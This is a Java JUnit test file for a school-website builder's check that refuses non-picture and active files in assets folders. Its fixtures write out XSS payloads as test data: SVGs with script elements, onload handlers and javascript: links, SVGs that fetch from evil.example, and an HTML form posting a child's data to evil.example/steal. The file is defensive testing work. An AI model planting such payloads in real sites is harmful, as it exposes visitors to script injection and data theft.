package org.polisi.site.check;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.polisi.site.BuildResult;
import org.polisi.site.FixtureTree;
import org.polisi.site.problem.Problem;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Tester 5's fault 2 and its kind: a school's (or a template's) {@code assets/} publishes pictures
 * only, by extension and content; a page, a script, a style sheet, an SVG that runs or fetches
 * anything, a document, a link to a file elsewhere, or a file whose content is not what its name
 * says is an {@code unsafe-asset} error at the file that holds the school back, and is not copied.
 */
class AuthoredAssetsTest {
    static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13};
    private static final byte[] JPEG = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0, 1};
    private static final byte[] GIF = "GIF89a\1\0\1\0\0\0".getBytes(StandardCharsets.ISO_8859_1);
    private static final byte[] WEBP = "RIFF\u0024\0\0\0WEBPVP8 ".getBytes(StandardCharsets.ISO_8859_1);
    private static final String SVG_OPEN = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\""
            + " viewBox=\"0 0 10 10\">";
    /** An Inkscape drawing, as Inkscape saves it: editor namespaces, metadata, a gradient by url(#id), a style sheet. */
    private static final String INKSCAPE = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n"
            + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\""
            + " xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\""
            + " xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\""
            + " xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\""
            + " width=\"20\" height=\"20\" inkscape:version=\"1.2\">\n"
            + "<sodipodi:namedview id=\"base\" pagecolor=\"#ffffff\"/>\n"
            + "<metadata><rdf:RDF><dc:title>Crest</dc:title></rdf:RDF></metadata>\n"
            + "<defs><linearGradient id=\"g\"><stop offset=\"0\" style=\"stop-color:#0a0\"/></linearGradient>"
            + "<style>.a{fill:url(#g)}</style></defs>\n"
            + "<title>The crest</title><g inkscape:label=\"Layer 1\"><path class=\"a\" d=\"M0 0h20v20z\" fill=\"url(#g)\"/>"
            + "<use xlink:href=\"#g\"/><image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/></g>\n</svg>\n";

    private static FixtureTree school(Path folder) {
        return FixtureTree.in(folder)
                .write("clusters/shared/cluster.yml", "name: {en: Shared, cy: Rhannu}\nlanguages: [en]\n")
                .write("schools/pics/school.yml", "name: {en: Pics School}\nlanguages: [en]\nadopts: shared\n")
                .write("schools/pics/en/page.adoc", "= Page\n:page-kind: page\n\nimage::logo.png[The school's logo]\n")
                .writeBytes("schools/pics/assets/logo.png", PNG)
                .write("schools/other/school.yml", "name: {en: Other School}\nlanguages: [en]\n")
                .write("schools/other/en/page.adoc", "= Page\n:page-kind: page\n\nText.\n");
    }

    /** Each refused file's name under assets/ with the start of its message, in name order. */
    private static Map<String, String> refused(BuildResult result) {
        Map<String, String> found = new TreeMap<>();
        for (Problem problem : result.errors()) {
            assertEquals(AuthoredAssets.CODE, problem.code(), problem.toString());
            String path = problem.file().toString();
            found.put(path.substring(path.indexOf("assets/") + "assets/".length()), problem.message());
        }
        return found;
    }

    @Test
    void theTestersPageScriptAndScriptedSvgAreErrorsAtTheirFilesAndHoldTheSchoolBack(@TempDir Path folder) {
        FixtureTree tree = school(folder)
                .write("schools/pics/assets/evil.html", "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"child\">"
                        + "<button>Send</button></form><script src=\"evil.js\"></script>")
                .write("schools/pics/assets/evil.js", "document.title=\"pwned\"")
                .write("schools/pics/assets/evil.svg", SVG_OPEN + "<script href=\"evil.js\"/></svg>");
        BuildResult result = tree.build();
        Map<String, String> refused = refused(result);
        assertEquals(List.of("evil.html", "evil.js", "evil.svg"), List.copyOf(refused.keySet()), result.errors().toString());
        assertTrue(refused.get("evil.html").contains("write it as an AsciiDoc page"), refused.get("evil.html"));
        assertTrue(refused.get("evil.js").contains("is code or styling"), refused.get("evil.js"));
        assertTrue(refused.get("evil.svg").contains("<script> element, which runs code")
                && refused.get("evil.svg").contains("save the picture as PNG"), refused.get("evil.svg"));
        for (Problem problem : result.errors()) {
            assertEquals(folder.resolve("content/schools/pics/assets").toAbsolutePath().normalize(),
                    problem.file().toAbsolutePath().normalize().getParent(), "named at the file itself");
        }
        assertFalse(Files.exists(tree.published("pics/en/page.html")), "the school is held back");
        assertFalse(Files.exists(tree.published("pics/assets/evil.html")));
        assertTrue(Files.isRegularFile(tree.published("other/en/page.html")), "another school is published");
    }

    @Test
    void picturesAndAnInertSvgArePublishedByteForByte(@TempDir Path folder) throws Exception {
        FixtureTree tree = school(folder)
                .writeBytes("schools/pics/assets/photo.jpg", JPEG)
                .writeBytes("schools/pics/assets/Photo.JPEG", JPEG)
                .writeBytes("schools/pics/assets/moving.gif", GIF)
                .writeBytes("schools/pics/assets/small.webp", WEBP)
                .write("schools/pics/assets/crest.svg", INKSCAPE)
                .writeBytes("schools/pics/assets/.DS_Store", new byte[]{0, 0, 0, 1})
                .writeBytes("clusters/shared/assets/maps/site-plan.png", PNG);
        BuildResult result = tree.build();
        assertEquals(List.of(), result.errors(), result.errors().toString());
        for (String name : List.of("logo.png", "photo.jpg", "Photo.JPEG", "moving.gif", "small.webp", "crest.svg")) {
            assertTrue(java.util.Arrays.equals(Files.readAllBytes(tree.file("schools/pics/assets/" + name)),
                    Files.readAllBytes(tree.published("pics/assets/" + name))), name);
        }
        assertTrue(Files.isRegularFile(tree.published("pics/assets/maps/site-plan.png")), "a template's picture, in its folder");
        assertFalse(Files.exists(tree.published("pics/assets/.DS_Store")), "a desktop's hidden file is not published");
    }

    @Test
    void everyOtherKindOfFileAndEveryActiveOrFetchingSvgIsRefused(@TempDir Path folder) throws Exception {
        Map<String, String> svgs = Map.ofEntries(
                Map.entry("handler.svg", SVG_OPEN + "<rect width=\"1\" height=\"1\" onload=\"alert(1)\"/></svg>"),
                Map.entry("foreign.svg", SVG_OPEN + "<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">x</div></foreignObject></svg>"),
                Map.entry("html-island.svg", SVG_OPEN + "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></svg>"),
                Map.entry("link.svg", SVG_OPEN + "<a href=\"javascript:alert(1)\"><rect width=\"1\" height=\"1\"/></a></svg>"),
                Map.entry("animate.svg", SVG_OPEN + "<set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>"),
                Map.entry("remote-image.svg", SVG_OPEN + "<image href=\"https://evil.example/p.png\"/></svg>"),
                Map.entry("remote-use.svg", SVG_OPEN + "<use xlink:href=\"https://evil.example/s.svg#x\"/></svg>"),
                Map.entry("svg-data.svg", SVG_OPEN + "<image href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></svg>"),
                Map.entry("style-fetch.svg", SVG_OPEN + "<style>rect{fill:url('https://evil.example/f')}</style></svg>"),
                Map.entry("style-import.svg", SVG_OPEN + "<style>@import 'x.css';</style></svg>"),
                Map.entry("attribute-fetch.svg", SVG_OPEN + "<rect fill=\"url(https://evil.example/#g)\" width=\"1\" height=\"1\"/></svg>"),
                Map.entry("stylesheet-pi.svg", "<?xml-stylesheet href=\"https://evil.example/s.xsl\" type=\"text/xsl\"?>" + SVG_OPEN + "</svg>"),
                Map.entry("entity.svg", "<!DOCTYPE svg [<!ENTITY x \"&#60;script&#62;alert(1)&#60;/script&#62;\">]>" + SVG_OPEN + "&x;</svg>"),
                Map.entry("not-xml.svg", "<svg><script>alert(1)</script>"),
                Map.entry("html-root.svg", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>"),
                Map.entry("no-namespace.svg", "<svg><script>alert(1)</script></svg>"));
        FixtureTree tree = school(folder);
        svgs.forEach((name, text) -> tree.write("schools/pics/assets/" + name, text));
        tree.write("schools/pics/assets/style.css", "body{}")
                .write("schools/pics/assets/page.htm", "<p>x</p>")
                .write("schools/pics/assets/sub/page.xhtml", "<p>x</p>")
                .write("schools/pics/assets/data.json", "{}")
                .writeBytes("schools/pics/assets/policy.pdf", "%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII))
                .write("schools/pics/assets/fake.png", "<script>alert(1)</script>")
                .writeBytes("schools/pics/assets/jpeg-named.png", JPEG)
                .writeBytes("schools/pics/assets/old.emf", new byte[]{1, 0, 0, 0})
                .write("schools/pics/assets/README", "notes")
                .write("clusters/shared/assets/widget.js", "alert(1)");
        Path outside = Files.writeString(folder.resolve("secret.png"), "not in the content");
        Files.createSymbolicLink(tree.file("schools/pics/assets/linked.png"), outside);
        Files.createDirectories(folder.resolve("elsewhere"));
        Files.createSymbolicLink(tree.file("schools/pics/assets/folder"), folder.resolve("elsewhere"));
        BuildResult result = tree.build();
        Map<String, String> refused = refused(result);
        List<String> expected = new java.util.ArrayList<>(svgs.keySet());
        expected.addAll(List.of("style.css", "page.htm", "sub/page.xhtml", "data.json", "policy.pdf", "fake.png", "jpeg-named.png",
                "old.emf", "README", "widget.js", "linked.png", "folder"));
        assertEquals(new java.util.TreeSet<>(expected), refused.keySet(), result.errors().toString());
        assertEquals(1, result.errors().stream().filter(p -> p.file().endsWith("widget.js")).count(), "a template's file once");
        assertTrue(refused.get("foreign.svg").contains("foreignObject"), refused.get("foreign.svg"));
        assertTrue(refused.get("handler.svg").contains("onload"), refused.get("handler.svg"));
        assertTrue(refused.get("entity.svg").contains("document type declaration"), refused.get("entity.svg"));
        assertTrue(refused.get("policy.pdf").contains("./polisi import"), refused.get("policy.pdf"));
        assertTrue(refused.get("fake.png").contains("is not a PNG picture inside"), refused.get("fake.png"));
        assertTrue(refused.get("old.emf").contains("export it as PNG"), refused.get("old.emf"));
        assertTrue(refused.get("linked.png").contains("is a link"), refused.get("linked.png"));
        assertTrue(refused.get("folder").contains("is a link"), refused.get("folder"));
        assertTrue(result.errors().stream().allMatch(p -> p.line() == 0 && p.message().contains("docs/adr/0097")));
        assertFalse(Files.exists(tree.published("pics/en/page.html")));
        assertFalse(Files.exists(tree.published("other/assets")), "the other school has no assets of its own");
    }

    @Test
    void anAssetsFolderThatIsALinkIsRefusedAndNothingBehindItIsCopied(@TempDir Path folder) throws Exception {
        FixtureTree tree = FixtureTree.in(folder)
                .write("schools/pics/school.yml", "name: {en: Pics School}\nlanguages: [en]\n")
                .write("schools/pics/en/page.adoc", "= Page\n:page-kind: page\n\nText.\n");
        Path elsewhere = Files.createDirectories(folder.resolve("elsewhere"));
        Files.write(elsewhere.resolve("logo.png"), PNG);
        Files.createSymbolicLink(tree.file("schools/pics/assets"), elsewhere);
        BuildResult result = tree.build();
        assertEquals(List.of(AuthoredAssets.CODE), result.errors().stream().map(Problem::code).toList(), result.errors().toString());
        assertTrue(result.errors().get(0).message().contains("assets folder is a link"), result.errors().get(0).message());
        assertFalse(Files.exists(tree.published("pics/assets/logo.png")));
    }
}
